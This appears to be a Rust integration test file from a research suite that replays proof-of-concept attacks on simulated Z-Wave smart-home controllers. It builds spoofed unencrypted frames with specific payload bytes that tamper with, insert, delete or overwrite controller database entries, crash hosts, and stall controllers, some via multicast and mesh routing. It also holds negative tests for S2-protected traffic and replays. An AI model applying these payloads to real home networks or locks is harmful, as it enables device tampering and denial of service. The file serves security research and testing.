//! Integration tests for the proof-of-concept attack scenarios: hand-built
//! frames against live simulated networks, spanning protocol, crypto,
//! radio and controller crates.

use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed, LOCK_NODE, SWITCH_NODE};
use zcover_suite::zwave_controller::{AppState, HomeNetwork, HostState};
use zcover_suite::zwave_protocol::nif::BasicDeviceType;
use zcover_suite::zwave_protocol::{MacFrame, NodeId};
use zcover_suite::zwave_radio::{FrameBuf, Transceiver};

fn inject(tb: &mut HomeNetwork, attacker: &Transceiver, payload: Vec<u8>) {
    let frame = MacFrame::singlecast(
        tb.controller().home_id(),
        SWITCH_NODE, // spoofed source
        NodeId(0x01),
        payload,
    );
    attacker.transmit(&frame.encode());
    tb.pump();
}

#[test]
fn figure8_tamper_lock_entry_to_routing_slave() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    assert_eq!(tb.controller().nvm().get(LOCK_NODE).unwrap().device_type, BasicDeviceType::Slave);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x02, 0x04]);
    let entry = tb.controller().nvm().get(LOCK_NODE).unwrap();
    assert_eq!(entry.device_type, BasicDeviceType::RoutingSlave);
    assert!(!entry.secure, "tampered entry loses its security marking");
}

#[test]
fn figure9_insert_rogue_controllers_10_and_200() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 10, 0x01]);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 200, 0x01]);
    let nvm = tb.controller().nvm();
    assert_eq!(nvm.get(NodeId(10)).unwrap().device_type, BasicDeviceType::Controller);
    assert_eq!(nvm.get(NodeId(200)).unwrap().device_type, BasicDeviceType::Controller);
    assert_eq!(nvm.len(), 5);
}

#[test]
fn figure10_remove_devices_2_and_3() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x02]);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x03]);
    let nvm = tb.controller().nvm();
    assert!(!nvm.contains(LOCK_NODE));
    assert!(!nvm.contains(SWITCH_NODE));
    assert!(nvm.contains(NodeId(0x01)), "the controller's own entry survives");
}

#[test]
fn figure11_overwrite_database_with_fakes() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    let before = tb.controller().nvm().snapshot();
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0xFF]);
    let nvm = tb.controller().nvm();
    assert!(!nvm.contains(LOCK_NODE));
    assert!(!nvm.contains(NodeId(0x01)));
    assert!(nvm.len() >= 3, "table filled with fakes");
    assert_ne!(nvm.snapshot(), before);
}

#[test]
fn bug05_dos_on_smartthings_app() {
    let mut tb = Testbed::new(DeviceModel::D6, 1);
    let attacker = tb.attach_attacker(70.0);
    assert_eq!(tb.controller().app().unwrap().state(), AppState::Reachable);
    inject(&mut tb, &attacker, vec![0x01, 0x02, 0xAA]);
    assert_eq!(tb.controller().app().unwrap().state(), AppState::DeniedService);
}

#[test]
fn bug06_repeated_host_crashes() {
    let mut tb = Testbed::new(DeviceModel::D2, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x9F, 0x01, 0x00, 0x00]);
    assert_eq!(tb.controller().host().unwrap().state(), HostState::Crashed);
    // The operator restarts; the attack crashes it again (the paper: "the
    // program only functions normally if the attack stops").
    tb.controller_mut().restore_factory();
    assert!(tb.controller().host().unwrap().is_usable());
    inject(&mut tb, &attacker, vec![0x9F, 0x01, 0x00, 0x00]);
    assert_eq!(tb.controller().host().unwrap().crash_count(), 2);
}

#[test]
fn bug14_controller_busy_for_four_minutes() {
    let mut tb = Testbed::new(DeviceModel::D5, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x01, 0x04, 0x1D]);
    assert!(!tb.controller().is_responsive());
    tb.clock().advance(std::time::Duration::from_secs(239));
    assert!(!tb.controller().is_responsive(), "still searching at t+239s");
    tb.clock().advance(std::time::Duration::from_secs(2));
    assert!(tb.controller().is_responsive(), "recovered after four minutes");
}

#[test]
fn s2_protected_paths_are_immune() {
    // The same payloads delivered *inside* a verified S2 encapsulation do
    // not trigger anything: the flaw is unencrypted acceptance.
    let mut tb = Testbed::new(DeviceModel::D6, 9);
    tb.exchange_normal_traffic(); // hub ↔ lock S2 traffic flows normally
    assert!(tb.controller().fault_log().is_empty());
    assert!(tb.lock().is_locked());
}

#[test]
fn replayed_sniffed_s2_frames_do_not_unlock() {
    // Capture a hub→lock S2 frame and replay it: the SPAN nonce has moved
    // on, so the lock rejects the replay.
    let mut tb = Testbed::new(DeviceModel::D6, 9);
    let sniffer = tb.attach_attacker(70.0);
    tb.exchange_normal_traffic();
    let captured: Vec<FrameBuf> = sniffer.drain().into_iter().map(|f| f.bytes).collect();
    let s2_frames: Vec<&FrameBuf> =
        captured.iter().filter(|b| b.len() > 11 && b[9] == 0x9F && b[10] == 0x03).collect();
    assert!(!s2_frames.is_empty(), "the exchange used S2 encapsulation");
    tb.exchange_normal_traffic(); // advance the SPAN
    let was_locked = tb.lock().is_locked();
    for frame in s2_frames {
        sniffer.transmit(frame);
        tb.pump();
    }
    assert_eq!(tb.lock().is_locked(), was_locked, "replay has no effect");
}

#[test]
fn attacks_work_from_the_threat_model_distances() {
    // 10 m and 70 m, the paper's attacker range.
    for distance in [10.0, 70.0] {
        let mut tb = Testbed::new(DeviceModel::D7, 3);
        let attacker = tb.attach_attacker(distance);
        inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x02]);
        assert!(!tb.controller().nvm().contains(LOCK_NODE), "attack from {distance} m");
    }
}

#[test]
fn wrong_home_id_attacks_are_ignored() {
    let mut tb = Testbed::new(DeviceModel::D1, 3);
    let attacker = tb.attach_attacker(70.0);
    let frame = MacFrame::singlecast(
        zcover_suite::zwave_protocol::HomeId(0xDEADBEEF),
        SWITCH_NODE,
        NodeId(0x01),
        vec![0x01, 0x0D, 0x02],
    );
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(tb.controller().nvm().contains(LOCK_NODE));
    assert!(tb.controller().fault_log().is_empty());
}

#[test]
fn multicast_attack_reaches_the_controller_without_a_dst() {
    // A multicast frame addressing node 0x01 carries the bug-#04 payload:
    // one transmission, no destination field to filter on.
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, MulticastHeader};

    let mut tb = Testbed::new(DeviceModel::D5, 21);
    let attacker = tb.attach_attacker(70.0);
    let mut payload = MulticastHeader::from_nodes(&[NodeId(0x01)]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, 0xFF]);
    let fc = FrameControl {
        header_type: HeaderType::Multicast,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        SWITCH_NODE,
        fc,
        NodeId(0xFF),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(!tb.controller().nvm().contains(NodeId(0x01)), "database overwritten via multicast");
    assert_eq!(tb.controller().fault_log().records()[0].bug_id, 4);
}

#[test]
fn multicast_not_addressed_to_us_is_ignored() {
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, MulticastHeader};

    let mut tb = Testbed::new(DeviceModel::D5, 22);
    let attacker = tb.attach_attacker(70.0);
    let mut payload = MulticastHeader::from_nodes(&[NodeId(0x30), NodeId(0x31)]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, 0xFF]);
    let fc = FrameControl {
        header_type: HeaderType::Multicast,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        SWITCH_NODE,
        fc,
        NodeId(0xFF),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(tb.controller().nvm().contains(NodeId(0x01)));
    assert!(tb.controller().fault_log().is_empty());
}

#[test]
fn routed_attack_travels_through_the_mesh_repeater() {
    // An attacker out of direct range routes the bug-#03 payload through
    // the smart switch (a routing slave), which advances the hop index and
    // retransmits — the P2 routing machinery of Figure 1.
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, RoutingHeader};

    let mut tb = Testbed::new(DeviceModel::D7, 23);
    let attacker = tb.attach_attacker(70.0);
    let mut payload = RoutingHeader::outbound(vec![SWITCH_NODE]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, LOCK_NODE.0]);
    let fc = FrameControl {
        header_type: HeaderType::Routed,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        NodeId(0x0F), // spoofed source beyond direct range
        fc,
        NodeId(0x01),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    // First pump: the controller ignores the in-transit copy (hop 0); the
    // switch forwards it. Second pump: the controller accepts the final leg.
    tb.pump();
    assert!(!tb.controller().nvm().contains(LOCK_NODE), "routed attack landed");
    assert_eq!(tb.controller().fault_log().records()[0].bug_id, 3);
}

#[test]
fn in_transit_routed_frames_are_not_processed_by_the_destination() {
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, RoutingHeader};

    let mut tb = Testbed::new(DeviceModel::D7, 24);
    let attacker = tb.attach_attacker(70.0);
    // Route through a repeater that does not exist: the frame stays
    // in transit forever and the controller must never dispatch it.
    let mut payload = RoutingHeader::outbound(vec![NodeId(0x63)]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, LOCK_NODE.0]);
    let fc = FrameControl {
        header_type: HeaderType::Routed,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        NodeId(0x0F),
        fc,
        NodeId(0x01),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(tb.controller().nvm().contains(LOCK_NODE));
    assert!(tb.controller().fault_log().is_empty());
}
